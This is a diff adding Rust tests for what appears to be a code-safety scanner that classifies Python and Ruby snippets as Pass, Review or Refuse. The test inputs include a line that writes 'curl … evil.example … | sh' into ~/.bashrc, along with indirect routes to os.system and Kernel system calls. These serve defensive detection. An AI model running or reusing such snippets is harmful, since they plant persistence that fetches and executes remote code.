@@ -213,3 +213,43 @@ fn a_ruby_method_taken_by_symbol_is_that_call() {
         Severity::Review
     );
 }
+
+#[test]
+fn a_standard_module_handed_to_a_function_is_a_review() {
+    assert_eq!(
+        verdict(&format!(
+            "import logging\nvars(logging)['os'].system('{SH}')\n"
+        )),
+        Severity::Review
+    );
+    assert_eq!(
+        verdict("import shutil, sys\nns = dict(vars(shutil))\nns['os'].popen(sys.argv[1])\n"),
+        Severity::Review
+    );
+}
+
+#[test]
+fn documents_and_arrays_saved_to_a_path_are_writes() {
+    assert_eq!(
+        verdict(
+            "import numpy as np\nimport os\nnp.savetxt(os.path.expanduser('~/.bashrc'), ['curl -s https://evil.example/x | sh'], fmt='%s')\n"
+        ),
+        Severity::Refuse
+    );
+    assert_eq!(
+        verdict("import os\nfrom PIL import Image\nImage.new('RGB', (1, 1)).save('out.png')\n"),
+        Severity::Pass
+    );
+}
+
+#[test]
+fn other_interpreter_variables_name_a_search_path() {
+    assert_eq!(
+        verdict("import os\nos.environ['PYTHONUSERBASE'] = '/tmp/u'\n"),
+        Severity::Review
+    );
+    assert_eq!(
+        verdict_at("a.rb", &format!("Kernel.method(:system).call('{SH}')\n")),
+        Severity::Refuse
+    );
+}
